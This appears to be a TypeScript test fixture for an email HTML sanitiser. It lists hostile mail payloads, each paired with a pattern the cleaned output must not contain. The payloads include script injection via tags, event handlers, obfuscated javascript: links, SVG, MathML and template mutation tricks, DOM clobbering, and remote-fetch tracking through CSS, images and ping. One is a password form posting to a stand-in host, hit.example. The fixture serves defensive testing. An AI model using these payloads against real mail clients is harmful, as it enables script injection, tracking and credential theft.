/* What hostile senders write: each piece with what must not be left of it. */
export type HostileMail = { readonly what: string; readonly html: string; readonly mustNotHold: RegExp };

export const hostileMail: readonly HostileMail[] = [
  { what: 'a script', html: '<script>parent.hit = 1</script>', mustNotHold: /script|hit/i },
  {
    what: 'an event handler',
    html: '<img src="x" onerror="parent.hit = 1"><p onclick="hit()">x</p>',
    mustNotHold: /onerror|onclick/i,
  },
  { what: 'a script link', html: '<a href="javascript:hit()">x</a>', mustNotHold: /javascript:/i },
  {
    what: 'a script link with a tab in it',
    html: '<a href="java&#9;script:hit()">x</a>',
    mustNotHold: /script:/i,
  },
  { what: 'a page as data', html: '<a href="data:text/html,<b>hit</b>">x</a>', mustNotHold: /data:text/i },
  {
    what: 'an SVG with a script',
    html: '<svg><script>hit()</script><a xlink:href="https://hit.example"><text>x</text></a></svg>',
    mustNotHold: /svg|hit/i,
  },
  {
    what: 'MathML',
    html: '<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></mglyph></table></mtext></math>',
    mustNotHold: /<math|onerror/i,
  },
  {
    what: 'a style sheet',
    html: '<style>@import url(https://hit.example/a.css); body { background: url(https://hit.example) }</style><p>x</p>',
    mustNotHold: /hit\.example|@import/i,
  },
  {
    what: 'a linked style sheet',
    html: '<link rel="stylesheet" href="https://hit.example/a.css">',
    mustNotHold: /<link|hit/i,
  },
  {
    what: 'a style that fetches',
    html: '<p style="background:url(https://hit.example/p.gif)">x</p>',
    mustNotHold: /hit\.example/i,
  },
  {
    what: 'a style that fetches behind escapes',
    html: '<p style="background:u\\72l(https://hit.example/p.gif)">x</p>',
    mustNotHold: /hit\.example/i,
  },
  {
    what: 'a style with an image set',
    html: '<p style="background-image:image-set(\'https://hit.example/p.gif\' 1x)">x</p>',
    mustNotHold: /hit\.example/i,
  },
  {
    what: 'a remote picture',
    html: '<img src="https://hit.example/open.gif" alt="logo">',
    mustNotHold: /hit\.example/i,
  },
  {
    what: 'a remote picture without a scheme',
    html: '<img src="//hit.example/open.gif">',
    mustNotHold: /hit\.example/i,
  },
  {
    what: 'a picture with several sources',
    html: '<picture><source srcset="https://hit.example/a"><img srcset="https://hit.example/b 2x"></picture>',
    mustNotHold: /hit\.example/i,
  },
  {
    what: 'an old-fashioned background',
    html: '<table background="https://hit.example/bg.gif"><tr><td>x</td></tr></table>',
    mustNotHold: /hit\.example/i,
  },
  {
    what: 'a form',
    html: '<form action="https://hit.example"><input name="password" type="password"><button>Sign in</button></form>',
    mustNotHold: /<form|<input|<button|hit\.example/i,
  },
  {
    what: 'a refresh',
    html: '<meta http-equiv="refresh" content="0;url=https://hit.example">',
    mustNotHold: /refresh|hit\.example/i,
  },
  {
    what: 'a base address',
    html: '<base href="https://hit.example/"><a href="x">x</a>',
    mustNotHold: /<base|hit\.example/i,
  },
  {
    what: 'a frame',
    html: '<iframe src="https://hit.example"></iframe><object data="https://hit.example"></object><embed src="https://hit.example">',
    mustNotHold: /<iframe|<object|<embed|hit\.example/i,
  },
  {
    what: 'sound and film',
    html: '<audio src="https://hit.example/a" autoplay></audio><video poster="https://hit.example/p"></video>',
    mustNotHold: /hit\.example/i,
  },
  {
    what: 'a ping',
    html: '<a href="https://fine.example" ping="https://hit.example">x</a>',
    mustNotHold: /hit\.example/i,
  },
  {
    what: 'a way out of the document',
    html: '</body></html><script>hit()</script><body onload="hit()">',
    mustNotHold: /<script|onload/i,
  },
  {
    what: 'a clobbered name',
    html: '<img name="body"><a id="documentElement">x</a>',
    mustNotHold: /name="body"|id="documentElement"/i,
  },
  {
    what: 'a template',
    html: '<template><script>hit()</script></template>',
    mustNotHold: /template|script/i,
  },
  {
    what: 'a template in a template',
    html: '<template><s><template><img src=x onerror=hit()></template></s></template>',
    mustNotHold: /template|onerror/i,
  },
  {
    what: 'a set of frames in the place of a body',
    html: '<html><head></head><frameset onload="hit()"><frame src="https://hit.example"></frameset></html>',
    mustNotHold: /frame|hit/i,
  },
  {
    what: 'a picture that is no picture',
    html: '<img src="data:text/html,hit"><img src="data:image/svg+xml,<svg onload=hit()>">',
    mustNotHold: /data:|hit/i,
  },
];
